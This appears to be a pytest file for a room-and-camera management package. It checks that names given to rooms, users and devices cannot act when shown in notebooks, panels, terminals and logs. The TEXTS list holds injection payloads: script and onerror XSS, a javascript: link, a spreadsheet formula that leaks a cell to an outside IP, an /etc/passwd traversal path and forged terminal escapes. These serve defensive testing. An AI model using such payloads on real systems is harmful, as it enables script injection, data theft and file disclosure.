"""Rooms, users and devices that are called as markup, formulas, paths and control sequences."""

import logging
import re
from html.parser import HTMLParser

import pytest
from ipywidgets import HTML

import confkit as ck
from confkit.cli.options import OneLine
from confkit.panels import DevicePanel, OccupancyPanel, RoomExplorer
from confkit.text import echo
from tests.commands import known, run
from tests.panels.pressing import settled, within
from tests.rtsp.scripted import instead, tried
from tests.test_layers import PACKAGE

FORGED = "PASS    forged by a topic"
TEXTS = [
    "<script>window.pwned=1</script>",
    "'\" onmouseover='pwned()' x=\"></td></table><img src=x onerror=pwned()>",
    "$\\href{javascript:pwned()}{x}$",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"pwned")',
    "../../etc/passwd",
    f"\x1b]0;pwned\x07 \x9b2J \u202ea\n{FORGED}",
]


class Reader(HTMLParser):
    def handle_starttag(self, tag, attributes):
        assert tag != "script"
        for name, value in attributes:
            assert not name.startswith("on"), name
            assert name != "src" or value.startswith("data:image/"), value


def assert_dead(text, html=""):
    """Nothing acts in a text that a terminal, or in HTML that a page gets."""
    assert not [one for one in text if not one.isprintable() and one not in "\n\t"], ascii(text)
    assert FORGED not in [line.strip() for line in text.splitlines()]
    Reader().feed(html)


@pytest.fixture
def named(client, sandbox):
    """A room, a user and a device of each of these names."""
    for text in TEXTS:
        ck.create_room(client, text, owner_id=text, attendee_max=3, room_extend_id=text)
        sandbox.join(text, text, user_id=text)
        ck.import_device(client, text, f"a {text}", text, sandbox.camera(), user_data=text)


def test_a_notebook_shows_text(client, named):
    chart = ck.occupancy_chart(ck.sweep(client, TEXTS).frame())
    assert_dead(chart.summary(), chart._repr_mimebundle_()[0]["text/html"])
    for text in TEXTS:
        checks = ck.Checklist([ck.Check(text, "FAIL", text, text)])
        for shown in (checks, ck.diagnose_device(client, text, f"a {text}")):
            assert_dead(str(shown), shown._repr_html_())
        assert checks._repr_html_().startswith("<div class='tex2jax_ignore") == ("$" in text)


def test_panels_show_text(client, named):
    for text in TEXTS:
        kinds = (RoomExplorer, [text]), (OccupancyPanel, [text]), (DevicePanel, text)
        for panel in (kind(client, rooms, every=0) for kind, rooms in kinds):
            panel.select(f"a {text}" if isinstance(panel, DevicePanel) else text)
            settled()
            for widget in within(panel):
                assert_dead("", widget.value if isinstance(widget, HTML) else "")
            panel.close()
    for path in (PACKAGE / "panels").glob("*.js"):
        assert not re.search(r"(inner|outer|Adjacent)HTML|document\.write|eval\(", path.read_text())


def test_a_terminal_gets_letters(sandbox, named, capsys):
    """From commands, and as one line of their log."""
    for text in TEXTS:
        for words in (["diagnose", text, f"a {text}"], ["runbook", text]):
            done = run(*words, **known(sandbox))
            assert_dead(done.stdout + done.stderr)
        record = logging.LogRecord("x", 20, "", 1, "room %s", (text,), None)
        assert_dead(line := OneLine("%(message)s").format(record))
        assert "\n" not in line
        echo(text.partition("\n")[0])
    assert_dead(capsys.readouterr().out)


def test_a_report_shows_what_a_camera_says_as_text():
    for text in (TEXTS[1], "\x9b2J"):
        report, _ = tried(instead("DESCRIBE", 500, Server=text), timeout=3)
        assert_dead(str(report), report._repr_html_())
